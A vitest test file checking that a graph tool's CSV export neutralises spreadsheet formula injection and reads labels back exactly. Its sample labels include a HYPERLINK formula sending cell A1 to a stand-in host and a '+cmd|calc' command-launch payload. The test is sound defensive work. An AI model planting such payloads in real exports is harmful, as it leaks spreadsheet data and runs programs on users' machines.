// The csv export is opened in spreadsheets: a label that would run as a formula there (= + - @, a
// tab, a carriage return at its start) is written with a leading apostrophe (OWASP), a number like
// -5 stays readable, and importing the export gives the labels back exactly. The neo4j-csv export,
// read by neo4j-admin, holds the text exactly.
import { afterAll, describe, expect, it } from 'vitest';
import fs from 'node:fs';
import path from 'node:path';
import { Store } from '../../electron/core/store';
import { runExport } from '../../electron/core/export';
import { importGraph } from '../../electron/core/import';
import { FileTarget } from '../../electron/core/export/out';
import { fromSpreadsheetCell, toSpreadsheetCell } from '../../electron/core/export/csv';
import { parseCsvFile } from '../../electron/core/import/csv';
import { tmpDir } from '../helpers/tmp';

const t = tmpDir('gw-formulas-');
afterAll(() => t.cleanup());

const LABELS = ['=HYPERLINK("http://x.example/?q="&A1,"open")', '+cmd|calc', '-x', '@SUM(A1:A9)', "'=already quoted", '-5', '+1.5', "it's plain", 'plain'];

describe('spreadsheet formulas in the csv export', () => {
  it('neutralises formula starts, keeps numbers and plain text, and reads back exactly', () => {
    const cells = LABELS.map(toSpreadsheetCell);
    expect(cells).toEqual([
      `'=HYPERLINK("http://x.example/?q="&A1,"open")`,
      "'+cmd|calc",
      "'-x",
      "'@SUM(A1:A9)",
      "''=already quoted",
      '-5',
      '+1.5',
      "it's plain",
      'plain',
    ]);
    expect(toSpreadsheetCell('\tcmd')).toBe("'\tcmd");
    expect(toSpreadsheetCell('\rcmd')).toBe("'\rcmd");
    expect(toSpreadsheetCell('-2e3')).toBe('-2e3');
    expect(toSpreadsheetCell('-2-3')).toBe("'-2-3");
    for (const s of [...LABELS, '\tcmd', "''=two", "'"]) expect(fromSpreadsheetCell(toSpreadsheetCell(s))).toBe(s);
  });

  it('a graph with such labels: nodes.csv holds the neutralised cells, the import gives the labels back; neo4j-csv holds them as they are', async () => {
    const kb = path.join(t.dir, 'kb.txt');
    // MetaQA's kb format takes | as its separator: the label with a | is left out here
    const labels = LABELS.filter((l) => !l.includes('|'));
    fs.writeFileSync(kb, labels.map((l, i) => `${l}|relates to|object ${i}`).join('\n'));
    const src = Store.open(path.join(t.dir, 'src.db'));
    const dst = Store.open(path.join(t.dir, 'dst.db'));
    try {
      await importGraph(src.db, 'tsv', kb);
      const out = path.join(t.dir, 'csv');
      await runExport(src.db, 'csv', {}, new FileTarget(out, true));
      const nodes = fs.readFileSync(path.join(out, 'nodes.csv'), 'utf8');
      expect(nodes).toContain(`,"'=HYPERLINK(""http://x.example/?q=""&A1,""open"")",`);
      expect(nodes).toContain(",'-x,");
      expect(nodes).toContain(",'@SUM(A1:A9),");
      expect(nodes).toContain(",''=already quoted,");
      expect(nodes).toContain(',-5,');
      expect(nodes).not.toMatch(/,(?:[=@]|[+-]\D)/); // no cell starts a formula; +1.5 and -5 are numbers
      await importGraph(dst.db, 'csv', out);
      const names = (s: Store) =>
        s.graph
          .listNodes({ limit: 100, offset: 0 })
          .items.map((n) => n.label)
          .sort();
      expect(names(dst)).toEqual(names(src));
      expect(names(dst)).toEqual(expect.arrayContaining(labels));

      const neo = path.join(t.dir, 'neo4j');
      await runExport(src.db, 'neo4j-csv', {}, new FileTarget(neo, true));
      expect(fs.readFileSync(path.join(neo, 'nodes.csv'), 'utf8')).toContain(',-x,');
    } finally {
      src.close();
      dst.close();
    }
  });

  it('a qualifier that starts like a formula stays inside its JSON cell, which no spreadsheet runs, and reads back exactly', async () => {
    const src = Store.open(path.join(t.dir, 'q-src.db'));
    const dst = Store.open(path.join(t.dir, 'q-dst.db'));
    try {
      const a = src.graph.upsertNode({ kind: 'entity', label: 'a' });
      const b = src.graph.upsertNode({ kind: 'entity', label: 'b' });
      const id = src.graph.upsertEdge({ subjectId: a, relation: 'uses', objectId: b, stage: 'EE', engine: 'classic' }).id;
      const qualifiers = { condition: '=HYPERLINK("http://x.example/")', surface: '@SUM(A1:A9) uses' };
      src.db.prepare('UPDATE edges SET precision = 0.5, meta = ? WHERE id = ?').run(JSON.stringify(qualifiers), id);
      const out = path.join(t.dir, 'q-csv');
      await runExport(src.db, 'csv', {}, new FileTarget(out, true));
      const rows: string[][] = [];
      parseCsvFile(path.join(out, 'edges.csv'), (f) => rows.push(f));
      const cell = rows[1][rows[0].indexOf('qualifiers')];
      expect(cell).toBe(toSpreadsheetCell(cell));
      expect(rows.flat().some((c) => /^[=+@\t\r]|^-\D/.test(c))).toBe(false);
      expect(JSON.parse(cell)).toEqual(qualifiers);
      await importGraph(dst.db, 'csv', out);
      const [t1] = dst.graph.listTriples({ limit: 10, offset: 0 }).items;
      expect(t1.qualifiers).toEqual(qualifiers);
      expect(t1.precision).toBe(0.5);
    } finally {
      src.close();
      dst.close();
    }
  });
});
